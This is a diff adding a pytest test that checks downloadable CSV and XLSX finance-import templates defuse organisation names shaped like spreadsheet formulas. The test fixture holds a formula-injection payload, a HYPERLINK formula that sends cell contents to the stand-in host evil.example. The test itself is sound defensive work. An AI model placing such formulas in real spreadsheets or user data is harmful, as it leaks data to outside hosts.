@@ -195,3 +195,34 @@ def test_given_the_downloaded_template_when_uploaded_then_its_example_row_checks
 
     assert result.errors == [] and result.rows == 1
     assert list(result.by_type) == ["4"]
+
+
+@pytest.mark.parametrize("kind", ["csv", "xlsx"])
+def test_given_an_organisation_named_like_a_formula_then_the_template_keeps_it_text(funded, kind):
+    """Given the downloader's organisation named "=HYPERLINK(…)" (names come from users),
+    then the template's provider cell is text a spreadsheet will not run — the CSV cell
+    starts with an apostrophe, the XLSX cell is a string, not a formula — and the template
+    uploaded back still names that organisation as the provider."""
+    from openpyxl import load_workbook
+
+    organisation = funded.ngo_admin.organisation
+    organisation.name = '=HYPERLINK("http://evil.example/?x="&A1,"ok")'
+    organisation.iati_identifier = ""
+    organisation.save()
+    response = client_for(funded.ngo_admin).get(url(funded, f"finance-import-template-{kind}"))
+    body = b"".join(response) if response.streaming else response.content
+
+    if kind == "csv":
+        row = body.decode("utf-8-sig").splitlines()[1]
+        assert ",\"'=HYPERLINK(" in row, row
+    else:
+        sheet = load_workbook(io.BytesIO(body)).worksheets[0]
+        cells = {
+            sheet.cell(row=1, column=c).value: sheet.cell(row=2, column=c) for c in range(1, 13)
+        }
+        assert cells["provider"].data_type == "s"
+        assert cells["provider"].value == "'" + organisation.name
+    result = importer.import_transactions(
+        funded.ngo_admin, funded.partnership, io.BytesIO(body), f"template.{kind}", False
+    )
+    assert result.errors == [] and result.rows == 1
